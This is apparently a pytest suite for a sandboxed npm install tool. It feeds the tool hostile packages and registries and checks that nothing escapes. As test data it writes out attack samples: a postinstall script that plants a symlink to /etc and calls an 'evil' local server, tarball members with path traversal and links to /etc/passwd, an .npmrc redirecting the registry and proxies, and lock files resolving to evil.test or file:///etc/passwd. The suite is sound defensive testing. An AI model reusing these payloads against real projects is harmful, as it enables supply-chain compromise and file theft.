"""`npm_install` against hostile packages, projects and registries: nothing is run, redirected or written that was not asked
for. Each attack stands beside a package that does install."""

import errno
import json
import os
import shutil
import stat
import tarfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from tests.loopback import Asked, Said, Site, site
from tests.npm_registry import Member, NpmRegistry, failed, install, installing, npm_registry, session_folder
from toolgate import App
from toolgate.errors import InvalidInput, ToolError
from toolgate.sandbox.npm.manifest import Manifest
from toolgate.sandbox.npm.package_tree import PackageTree

QUICK = {
    "test_scripts_of_packages_do_not_run_unless_asked_for",
    "test_tarballs_of_another_host_are_not_fetched",
    "test_a_tree_is_files_folders_and_links_within_it",
    "test_a_tree_that_is_itself_a_link_is_refused",
    "test_a_manifest_that_is_nested_very_deeply_is_refused",
}

pytestmark = [
    pytest.mark.requirement("BUILTIN-3"), pytest.mark.requirement("SBX-3"), pytest.mark.needs("npm", "bubblewrap"),
]  # fmt: skip
MARKER = "this was run"


@pytest.fixture
async def registry() -> AsyncIterator[NpmRegistry]:
    async with npm_registry() as found:
        found.add("honest", "1.0.0", {"index.js": "1"})
        yield found


@pytest.fixture
async def app(tmp_path: Path, registry: NpmRegistry) -> AsyncIterator[App]:
    async with installing(tmp_path / "home", registry) as found:
        yield found


@pytest.fixture
async def evil() -> AsyncIterator[Site]:
    """A server that nobody named."""

    async def answer(_asked: Asked) -> Said:
        return Said(200, {"gotcha": True})

    async with site(answer) as found:
        yield found


def member(name: str, kind: bytes = tarfile.REGTYPE, target: str = "", mode: int = 0o644) -> Member:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, target, mode
    return info, b"escaped" if kind == tarfile.REGTYPE else b""


def files_below(folder: Path) -> dict[str, str]:
    """Every path below a folder, and what it is."""

    def kind(path: Path) -> str:
        return "link" if path.is_symlink() else "folder" if path.is_dir() else "file"

    return {str(path.relative_to(folder)): kind(path) for path in folder.rglob("*")}


# -- the packages


async def test_scripts_of_packages_do_not_run_unless_asked_for(app: App, registry: NpmRegistry, evil: Site) -> None:
    script = (
        "const fs=require('fs'), found={env: Object.keys(process.env)};"
        f"fs.writeFileSync('ran.txt', '{MARKER}');"
        "for (const [name, text] of [['package.json', '{\"scripts\":{\"test\":\"evil\"}}'], ['package-lock.json', '{}']])"
        " try { fs.writeFileSync(process.env.INIT_CWD + '/' + name, text) } catch (e) { found[name] = e.code }"
        "try { fs.symlinkSync('/etc', process.env.INIT_CWD + '/node_modules/outside') } catch (e) { }"
        "fs.unlinkSync(process.env.INIT_CWD + '/node_modules/outside');"
        "fs.writeFileSync('found.json', JSON.stringify(found));"
        f"fetch('http://127.0.0.1:{evil.port}/').catch(e => fs.writeFileSync('network.txt', String(e)))"
    )
    registry.add("noisy", "1.0.0", {"run.js": script}, scripts={"postinstall": "node run.js"})
    folder = session_folder(app)
    quiet = await install(app, package="noisy")
    assert quiet.output["added"] == 1
    assert not (folder / "node_modules/noisy/ran.txt").exists()
    loud = await install(app, package="noisy", scripts=True)
    assert loud.ok, loud
    assert (folder / "node_modules/noisy/ran.txt").read_text() == MARKER, "the control: it would have run"
    assert (folder / "node_modules/noisy/network.txt").exists(), "without a network, also not the registry's"
    assert json.loads((folder / "package.json").read_text()) == {"dependencies": {"noisy": "^1.0.0"}}
    assert "node_modules/noisy" in json.loads((folder / "package-lock.json").read_text())["packages"]
    assert evil.asked == []
    assert not any(name.startswith("TOOLGATE") for name in json.loads(
        (folder / "node_modules/noisy/found.json").read_text())["env"])  # fmt: skip


async def test_a_script_that_plants_a_link_has_nothing_installed(app: App, registry: NpmRegistry) -> None:
    script = "require('fs').symlinkSync('/etc', process.env.INIT_CWD + '/node_modules/outside')"
    registry.add("planter", "1.0.0", {"run.js": script}, scripts={"postinstall": "node run.js"})
    assert "leads out" in failed(await install(app, package="planter", scripts=True), "INVOCATION_ERROR")
    assert files_below(session_folder(app)) == {}


async def test_a_script_that_fails_has_nothing_installed(app: App, registry: NpmRegistry) -> None:
    registry.add("broken", "1.0.0", scripts={"postinstall": "exit 3"})
    failed(await install(app, package="broken", scripts=True), "INVOCATION_ERROR")
    assert files_below(session_folder(app)) == {}


async def test_tarballs_write_nothing_but_their_own_folder(app: App, registry: NpmRegistry, tmp_path: Path) -> None:
    odd = [
        member("package/../../up.txt"), member("package/../../../../up.txt"), member("../up.txt"), member("/tmp/up.txt"),
        member(f"{tmp_path}/up.txt"), member("package/link", tarfile.SYMTYPE, "/etc/passwd"),
        member("package/linked", tarfile.SYMTYPE, "../../.."), member("package/linked/through.txt"),
        member("package/hard", tarfile.LNKTYPE, "/etc/passwd"), member("package/device", tarfile.CHRTYPE),
        member("package/pipe", tarfile.FIFOTYPE), member("package/rooted", mode=0o6777),
    ]  # fmt: skip
    registry.add("odd", "1.0.0", {"index.js": "1"}, *odd)
    before = files_below(tmp_path)
    outcome = await install(app, package="odd")
    folder = session_folder(app)
    assert (folder / "node_modules/odd/index.js").read_text() == "1", outcome
    found = files_below(folder)
    assert not [path for path, kind in found.items() if kind == "link"]
    assert all(path.startswith(("node_modules", "package.json", "package-lock.json")) for path in found)
    assert not any((Path(place) / "up.txt").exists() for place in ("/tmp", "/", tmp_path))
    rooted = folder / "node_modules/odd/rooted"
    assert not rooted.exists() or rooted.stat().st_mode & 0o7022 == 0
    new = {path for path in files_below(tmp_path).keys() - before.keys() if not path.startswith("home/sessions/")}
    assert all(path.startswith("home/") for path in new)


async def test_a_package_cannot_bring_a_repository(app: App, registry: NpmRegistry) -> None:
    files: dict[str, str | bytes] = {f"inner/{name}": "x" for name in ("HEAD", "objects/a", "refs/a", "config")}
    registry.add("nested", "1.0.0", files)
    assert "repository" in failed(await install(app, package="nested"), "INVOCATION_ERROR")
    assert files_below(session_folder(app)) == {}


async def test_a_package_that_unpacks_to_more_than_it_may(tmp_path: Path, registry: NpmRegistry) -> None:
    registry.add("bomb", "1.0.0", {f"zeros{number}": bytes(8_000_000) for number in range(12)})
    async with installing(tmp_path / "home", registry, npm={"disk_mb": 20}) as app:
        assert (await install(app, package="honest")).ok, "the control"
        outcome = await install(app, package="bomb")
        assert outcome.error is not None and outcome.error.code in ("SANDBOX_ERROR", "INVOCATION_ERROR"), outcome
        assert sorted(path.name for path in (session_folder(app) / "node_modules").iterdir()) == [
            ".package-lock.json", "honest",
        ]  # fmt: skip


# -- the project


async def test_the_settings_of_a_project_change_nothing(app: App, registry: NpmRegistry, evil: Site) -> None:
    url = f"http://127.0.0.1:{evil.port}/"
    folder = session_folder(app)
    registry.add("@mine/thing", "1.0.0", {"index.js": "1"}, scripts={"postinstall": "touch ran.txt"})
    (folder / ".npmrc").write_text(
        f"registry={url}\n@mine:registry={url}\nignore-scripts=false\nproxy={url}\nhttps-proxy={url}\nnoproxy=registry.test\n"
        "prefix=/tmp/elsewhere\nglobal=true\nscript-shell=/bin/false\nstrict-ssl=false\ncafile=/etc/passwd\n"
        f"//{registry.named}/:_authToken=${{HOME}}\nnode-options=--require=./evil.js\nomit=prod\n"
    )
    (folder / "evil.js").write_text("process.exit(9)")
    (folder / "package.json").write_text(
        json.dumps({"dependencies": {"honest": "^1.0.0"}, "scripts": {"preinstall": "touch ran.txt", "prepare": "exit 4"}})
    )
    outcome = await install(app, package="@mine/thing")
    assert outcome.output["added"] == 2, outcome
    assert evil.asked == []
    assert not list(folder.rglob("ran.txt"))
    assert registry.at is not None
    assert not any("authorization" in asked.headers for asked in registry.at.asked)


@pytest.mark.parametrize(
    "lock",
    [
        {"node_modules/honest": {"version": "1.0.0", "resolved": "http://evil.test:PORT/honest.tgz"}},
        {"node_modules/honest": {"resolved": "../../outside", "link": True}, "../../outside": {"version": "1.0.0"}},
        {"node_modules/honest": {"version": "1.0.0", "resolved": "file:///etc/passwd"}},
        {"node_modules/honest": {"version": "1.0.0", "resolved": "git+ssh://git@evil.test/x.git#0"}},
    ],
    ids=["another host", "a link", "a file", "git"],
)  # fmt: skip
async def test_a_lock_file_leads_nowhere_else(app: App, evil: Site, lock: dict[str, Any]) -> None:
    folder = session_folder(app)
    (folder / "package.json").write_text('{"dependencies": {"honest": "1.0.0"}}')
    whole = {"lockfileVersion": 3, "packages": {"": {"dependencies": {"honest": "1.0.0"}}, **lock}}
    written = json.dumps(whole).replace("PORT", str(evil.port))
    (folder / "package-lock.json").write_text(written)
    outcome = await install(app)
    assert evil.asked == []
    if outcome.ok:  # npm took the package from the registry after all
        assert (folder / "node_modules/honest/index.js").read_text() == "1"
        assert not (folder / "node_modules/honest").is_symlink()
    else:
        assert outcome.error is not None and outcome.error.code in ("CONNECTION_ERROR", "INVOCATION_ERROR", "INVALID_INPUT")
        assert not (folder / "node_modules").exists()
        assert (folder / "package-lock.json").read_text() == written


async def test_links_of_the_project_are_not_followed(app: App, tmp_path: Path) -> None:
    folder, outside = session_folder(app), tmp_path / "outside"
    outside.mkdir()
    (outside / "package.json").write_text("{}")
    (folder / "node_modules").symlink_to(outside)
    failed(await install(app, package="honest"), "INVALID_INPUT")
    (folder / "node_modules").unlink()
    (folder / "package.json").symlink_to(outside / "package.json")
    failed(await install(app, package="honest"), "SECURITY_VIOLATION")
    (folder / "sub").symlink_to(outside)
    failed(await install(app, package="honest", projectPath="sub"), "SECURITY_VIOLATION")
    assert sorted(path.name for path in outside.iterdir()) == ["package.json"]
    assert (outside / "package.json").read_text() == "{}"


# -- the registry


async def test_tarballs_of_another_host_are_not_fetched(app: App, registry: NpmRegistry, evil: Site) -> None:
    registry.tarballs_from = f"http://evil.test:{evil.port}"
    failed(await install(app, package="honest"), "CONNECTION_ERROR")
    assert evil.asked == []


async def test_a_redirect_to_another_host_is_not_followed(app: App, registry: NpmRegistry, evil: Site) -> None:
    registry.answer = lambda _asked: Said(302, "", {"location": f"http://evil.test:{evil.port}/honest"})
    outcome = await install(app, package="honest")
    assert outcome.error is not None
    assert evil.asked == []
    assert files_below(session_folder(app)) == {}


@pytest.mark.parametrize(
    "said", [Said(200, "<html>"), Said(500, "no"), Said(200, {"versions": 3}), Said(200, b"\0" * 1000)],
    ids=["html", "error", "strange", "zeros"],
)  # fmt: skip
async def test_a_registry_that_talks_nonsense(app: App, registry: NpmRegistry, said: Said) -> None:
    registry.answer = lambda _asked: said
    outcome = await install(app, package="honest")
    assert outcome.error is not None
    assert outcome.error.code in ("CONNECTION_ERROR", "INVOCATION_ERROR", "INVALID_INPUT")
    assert str(app.settings.home) not in str(outcome.to_dict())
    assert files_below(session_folder(app)) == {}


async def test_a_tarball_with_another_digest_is_refused(app: App, registry: NpmRegistry) -> None:
    def swap(asked: Asked) -> Said | None:
        return Said(200, b"not what was promised") if asked.path.endswith(".tgz") else None

    registry.answer = swap
    failed(await install(app, package="honest"), "INVOCATION_ERROR")
    assert files_below(session_folder(app)) == {}


# -- the tree by itself


def test_a_tree_is_files_folders_and_links_within_it(tmp_path: Path) -> None:
    modules = tmp_path / "node_modules"
    (modules / ".bin").mkdir(parents=True)
    (modules / "a").mkdir()
    (modules / "a/cli.js").write_text("1")
    (modules / "a/cli.js").chmod(0o6777)
    (modules / ".bin/a").symlink_to("../a/cli.js")
    PackageTree(tmp_path, 100).check(None)
    assert (modules / "a/cli.js").stat().st_mode & 0o7777 == 0o755
    with pytest.raises(ToolError, match="more files"):
        PackageTree(tmp_path, 2).check(None)
    (modules / "top").symlink_to("a/..")
    PackageTree(tmp_path, 100).check(None)
    for target in ("/etc", "../../etc", "../a/../../x", "../..", "../top/../x", "../top/a", "./..//../etc"):
        (modules / ".bin/b").symlink_to(target)
        with pytest.raises(ToolError, match="leads out"):
            PackageTree(tmp_path, 100).check(None)
        (modules / ".bin/b").unlink()


def test_a_tree_from_another_file_system_is_copied(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    staging, project = tmp_path / "staging", tmp_path / "project"
    (staging / "node_modules/.bin").mkdir(parents=True)
    (staging / "node_modules/a").mkdir()
    (staging / "node_modules/a/cli.js").write_text("new")
    (staging / "node_modules/.bin/a").symlink_to("../a/cli.js")
    (project / "node_modules/old").mkdir(parents=True)
    rename = os.rename

    def across(source: Any, target: Any, **folders: Any) -> None:
        if "src_dir_fd" not in folders:
            raise OSError(errno.EXDEV, "another file system")
        rename(source, target, **folders)

    monkeypatch.setattr(os, "rename", across)
    tree = PackageTree(staging, 100)
    tree.check(None)
    number = os.open(project, os.O_RDONLY)
    try:
        tree.put_in_place(number)
        (staging / "node_modules/a/cli.js").write_text("newer")
        monkeypatch.setattr(shutil, "copytree", lambda *_, **__: (_ for _ in ()).throw(OSError(errno.ENOSPC, "full")))
        with pytest.raises(OSError, match="full"):
            tree.put_in_place(number)
    finally:
        os.close(number)
    assert files_below(project) == {
        "node_modules": "folder", "node_modules/.bin": "folder", "node_modules/.bin/a": "link", "node_modules/a": "folder",
        "node_modules/a/cli.js": "file",
    }  # fmt: skip
    assert (project / "node_modules/a/cli.js").read_text() == "new"


def test_a_tree_that_is_itself_a_link_is_refused(tmp_path: Path) -> None:
    (tmp_path / "other").mkdir()
    (tmp_path / "node_modules").symlink_to("other")
    with pytest.raises(ToolError, match="no folder"):
        PackageTree(tmp_path, 100).check(None)


def test_a_link_in_place_of_the_old_tree_opens_nothing_up(tmp_path: Path) -> None:
    """A program that works in the folder meanwhile can put one there: the folder outside keeps its rights and content."""
    outside, project, staged = tmp_path / "outside", tmp_path / "project", tmp_path / "staged"
    for folder in (outside, project, staged / "node_modules"):
        folder.mkdir(parents=True)
    (outside / "kept.txt").touch()
    outside.chmod(0o755)
    (project / "node_modules").symlink_to(outside)
    number = os.open(project, os.O_RDONLY)
    try:
        PackageTree(staged, 100).put_in_place(number)
    finally:
        os.close(number)
    assert stat.S_IMODE(outside.stat().st_mode) == 0o755
    assert (outside / "kept.txt").exists()
    assert not (project / "node_modules").is_symlink()


def test_a_manifest_that_is_nested_very_deeply_is_refused() -> None:
    for depth in (300, 900):
        with pytest.raises(InvalidInput, match="too deeply"):
            Manifest(b'{"engines":' * depth + b"{}" + b"}" * depth)
